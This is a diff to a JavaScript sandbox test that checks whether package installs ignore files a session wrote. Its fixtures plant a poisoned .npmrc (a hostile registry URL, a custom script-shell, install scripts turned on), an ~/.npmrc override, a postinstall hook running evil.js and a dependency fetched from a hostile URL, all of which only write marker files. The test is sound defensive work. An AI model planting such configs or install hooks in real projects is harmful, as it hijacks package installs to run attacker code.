@@ -296,8 +296,10 @@ describe('package installs: only the index, nothing the session wrote', () => {
         'const fs = require("fs"), cp = require("child_process");',
         'fs.mkdirSync("markers", { recursive: true });',
         `fs.writeFileSync("evil.js", "require('fs').writeFileSync('${SANDBOX_WORKSPACE}/markers/node-options', 'ran')\\n");`,
-        `fs.writeFileSync(".npmrc", "dry-run=true\\nignore-scripts=false\\nregistry=${hostileUrl}\\nscript-shell=${SANDBOX_WORKSPACE}/evil.sh\\n");`,
-        `fs.writeFileSync(process.env.HOME + "/.npmrc", "offline=true\\nregistry=${hostileUrl}\\n");`,
+        // the workspace's .npmrc (project config; also the user config when HOME is the workspace) …
+        `fs.writeFileSync(".npmrc", "dry-run=true\\nignore-scripts=false\\noffline=true\\nregistry=${hostileUrl}\\nscript-shell=${SANDBOX_WORKSPACE}/evil.sh\\n");`,
+        // … and ~/.npmrc where HOME is elsewhere
+        `if (process.env.HOME !== process.cwd()) fs.writeFileSync(process.env.HOME + "/.npmrc", "offline=true\\nregistry=${hostileUrl}\\n");`,
         `fs.writeFileSync("package.json", JSON.stringify({ name: "ws", dependencies: { hostiledep: "${hostileUrl}hostiledep.tgz" }, scripts: { postinstall: "node evil.js" } }));`,
         `fs.writeFileSync("evil.sh", "#!/bin/sh\\necho ran > ${SANDBOX_WORKSPACE}/markers/script-shell\\n"); fs.chmodSync("evil.sh", 0o755);`,
         // proof: a node process of the session loads NODE_OPTIONS; npm in the workspace reads the planted config
